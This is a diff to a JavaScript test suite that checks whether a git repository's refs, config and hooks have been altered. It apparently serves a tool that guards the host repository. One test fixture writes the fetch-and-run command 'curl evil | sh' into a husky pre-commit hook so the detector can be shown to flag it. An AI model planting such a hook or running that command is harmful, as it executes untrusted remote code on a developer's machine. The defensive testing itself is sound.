@@ -11,14 +11,14 @@ describe('host repository integrity', () => {
     // What a run itself does, and a `git status` refreshing the index: no difference.
     gitIn(repo, ['branch', 'corral/t']);
     gitIn(repo, ['status', '--short']);
-    expect(hostDifferences(before, await recordHostState(repo))).toEqual([]);
+    expect(hostDifferences(before, await recordHostState(repo, before))).toEqual([]);
 
     gitIn(repo, ['checkout', '-q', '-b', 'elsewhere']);
     writeFileSync(path.join(repo, 'b.txt'), 'b\n');
     gitIn(repo, ['add', 'b.txt']);
     gitIn(repo, ['config', 'core.hooksPath', '/tmp/hooks']);
     writeFileSync(path.join(repo, '.git', 'hooks', 'post-merge'), '#!/bin/sh\n', { mode: 0o755 });
-    const differences = hostDifferences(before, await recordHostState(repo));
+    const differences = hostDifferences(before, await recordHostState(repo, before));
     expect(differences).toEqual([
       expect.stringMatching(/^HEAD moved: refs\/heads\/main [0-9a-f]{40} → refs\/heads\/elsewhere [0-9a-f]{40}$/),
       expect.stringMatching(/^ref new: refs\/heads\/elsewhere /),
@@ -34,7 +34,7 @@ describe('host repository integrity', () => {
     const before = await recordHostState(repo);
     symlinkSync('/nowhere/yet', path.join(repo, '.git', 'hooks', 'post-checkout'));
     writeFileSync(path.join(repo, '.husky', 'pre-commit'), 'curl evil | sh\n');
-    expect(hostDifferences(before, await recordHostState(repo))).toEqual([
+    expect(hostDifferences(before, await recordHostState(repo, before))).toEqual([
       expect.stringMatching(/^hook gone: \.husky\/pre-commit 644 /),
       'hook new: post-checkout -> /nowhere/yet',
       expect.stringMatching(/^hook new: \.husky\/pre-commit 644 /),
